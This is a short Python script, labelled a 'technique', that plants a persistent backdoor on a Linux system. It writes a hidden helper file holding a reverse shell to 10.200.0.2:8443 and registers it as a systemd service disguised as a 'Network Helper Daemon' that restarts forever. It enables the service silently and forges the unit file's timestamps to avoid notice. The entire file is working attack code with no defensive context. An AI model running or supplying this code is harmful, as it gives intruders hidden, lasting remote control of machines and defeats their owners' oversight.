# technique: create and enable a systemd service unit that restarts an implant forever, with a misleading description
import os
import subprocess

UNIT = "/etc/systemd/system/systemd-networkd-helper.service"
BODY = """[Unit]
Description=Network Helper Daemon
After=network-online.target

[Service]
Type=simple
ExecStart=/usr/bin/python3 /usr/lib/.nh/helper.py
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
"""

os.makedirs("/usr/lib/.nh", exist_ok=True)
with open("/usr/lib/.nh/helper.py", "w") as f:
    f.write("import socket,os,pty\n"
            "s=socket.socket();s.connect(('10.200.0.2',8443))\n"
            "[os.dup2(s.fileno(),i) for i in range(3)]\n"
            "pty.spawn('/bin/bash')\n")
with open(UNIT, "w") as f:
    f.write(BODY)
for args in (["systemctl", "daemon-reload"],
             ["systemctl", "enable", "--now", os.path.basename(UNIT)]):
    subprocess.run(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
# hide timestamps to blend in
st = os.stat("/etc/systemd/system/multi-user.target.wants") if os.path.exists("/etc/systemd/system/multi-user.target.wants") else os.stat("/etc/hostname")
os.utime(UNIT, (st.st_atime, st.st_mtime))
